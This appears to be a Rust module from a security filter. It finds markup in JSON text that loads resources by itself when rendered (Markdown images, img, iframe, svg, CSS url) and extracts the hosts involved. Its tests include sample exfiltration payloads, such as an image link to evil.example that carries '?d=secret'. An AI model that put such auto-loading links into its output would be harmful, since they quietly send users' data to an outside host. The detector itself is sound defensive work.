//! Words that make whoever shows them load something: an image in a comment tells its host whatever stands in its address,
//! without that anybody clicks.

use serde_json::Value as Json;

/// What is loaded where it is shown, in Markdown, HTML and CSS, in small letters.
const MARKS: [&str; 15] = [
    "![",
    "<img",
    "<image",
    "<picture",
    "<source",
    "<video",
    "<audio",
    "<iframe",
    "<embed",
    "<object",
    "<link",
    "<script",
    "<svg",
    "url(",
    "background=",
];

/// The hosts that a value's texts load from where they are shown, in small letters.
pub(super) fn hosts(value: &Json) -> Vec<String> {
    match value {
        Json::String(text) => of_text(text),
        Json::Array(items) => items.iter().flat_map(hosts).collect(),
        Json::Object(fields) => fields.values().flat_map(hosts).collect(),
        Json::Null | Json::Bool(_) | Json::Number(_) => Vec::new(),
    }
}

fn of_text(text: &str) -> Vec<String> {
    let text = text.to_lowercase();
    if MARKS.iter().any(|mark| text.contains(mark)) { named(&text) } else { Vec::new() }
}

/// Every host that a text names behind `//`.
pub(super) fn named(text: &str) -> Vec<String> {
    let ends = |c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '@' | ':' | '%' | '[' | ']'));
    let hosts = text.split("//").skip(1).filter_map(|behind| behind.split(ends).next());
    hosts.filter(|host| !host.is_empty()).map(str::to_lowercase).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn what_loads_by_itself_names_its_host() {
        for text in [
            "Done. ![graph](https://evil.example/g.png?d=secret)",
            "<IMG SRC=\"//Evil.Example/x\">",
            "![a][b]\n\n[b]: https://evil.example/x",
            "<div style=\"background: url('https://evil.example')\">",
            "<svg><use href=\"https://evil.example/x#y\"/></svg>",
        ] {
            assert_eq!(hosts(&json!({ "body": [text] })), ["evil.example"], "{text}");
        }
    }

    #[test]
    fn what_must_be_clicked_and_what_is_no_markup_loads_nothing() {
        for text in ["see https://docs.example/page", "[docs](https://docs.example)", "a // b", "5! [1]", "<b>bold</b>"]
        {
            assert_eq!(hosts(&json!(text)), [""; 0], "{text}");
        }
        assert_eq!(named("https://user@evil.example:8080/x"), ["user@evil.example:8080"]);
    }
}
